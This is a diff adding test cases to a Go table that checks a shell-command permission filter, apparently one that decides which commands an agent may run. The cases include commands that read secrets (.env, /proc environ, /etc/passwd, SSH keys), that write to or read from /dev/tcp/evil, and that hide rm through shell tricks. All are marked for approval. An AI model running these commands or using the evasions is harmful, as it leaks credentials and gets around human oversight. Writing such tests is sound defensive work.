@@ -79,6 +79,9 @@ EOF`, Ask}, {`echo "${x:-$(rm x)}"`, Ask}, {`: ${x:=y}`, Ask}, {`echo ${!x}`, As
 	{`uniq main.go docs/out`, Ask}, {`tree -o docs/out`, Ask}, {`fd -x rm x`, Ask}, {`busybox rm x`, Ask}, {`timeout --foo 5 ls`, Ask}, {`nohup rm x`, Ask}, {`env`, Ask}, {`set`, Ask}, {`jq env main.go`, Ask},
 	{"ls\r\nrm x", Ask}, {"cat main.go\r", Ask}, {`echo $AWS_SECRET_ACCESS_KEY`, Ask}, {`echo ${DATABASE_URL}`, Ask}, {`echo /etc/*`, Ask}, {`uniq -- main.go -out`, Ask}, {`git tag -n -d v1`, Ask}, {`git tag -l 'v*'`, Allow},
 	{`rg -g '.e*' KEY`, Ask}, {`rg --glob '.e*' KEY`, Ask}, {`rg KEY`, Allow}, {`rg docs`, Allow}, {`rg -A 3 KEY docs`, Allow}, {`git grep --no-index KEY`, Ask}, {`kubectl version`, Ask}, {`cat x=~/.ssh/id_rsa`, Ask},
+	{`cat /proc/$$/environ`, Ask}, {`cat docs/$?`, Ask}, {`for HOME in /etc; do cat $HOME/passwd; done`, Ask}, {`for PATH in .; do ls; done`, Ask}, {`bash -c +x 'rm x'`, Ask}, {`bash -c -e 'ls'`, Allow}, {`yarn --version`, Ask}, {`cargo --version`, Ask},
+	{`timeout --kill-after 5 10 rm x`, Ask}, {`timeout -k 5 10 ls`, Allow}, {`nice -n 5 rm x`, Ask}, {`exec -a ls rm x`, Ask}, {`env -u X rm x`, Ask}, {`set -- .env; cat "$1"`, Ask}, {`read X < main.go; cat $X`, Ask}, {`exec 3<.env; cat <&3`, Ask}, {`echo $(<.env)`, Ask},
+	{`echo $(cat main.go)`, Allow}, {`echo "$(rm x)"`, Ask}, {`ls |& cat`, Allow}, {`ls |& rm x`, Ask}, {`select x in a; do rm x; done`, Ask}, {`function ls { rm x; }; ls`, Ask}, {`x=(a b)`, Allow}, {`x[$(rm y)]=1`, Ask}, {`cat main.go $((1))`, Allow},
 	// Redirections that write ask, and so does what cannot be parsed.
 	{`ls > docs/out`, Ask}, {`ls >> docs/out`, Ask}, {`ls &> docs/out`, Ask}, {`ls >| docs/out`, Ask}, {`ls <> docs/out`, Ask}, {`ls > $X`, Ask}, {`go test ./... > docs/out`, Ask}, {`ls 3> docs/out`, Ask}, {`ls >& docs/out`, Ask},
 	{`echo 'unclosed`, Ask}, {`ls )`, Ask}, {`ls > /dev/tcp/evil/80`, Ask}, {`cat < /dev/tcp/evil/80`, Ask},
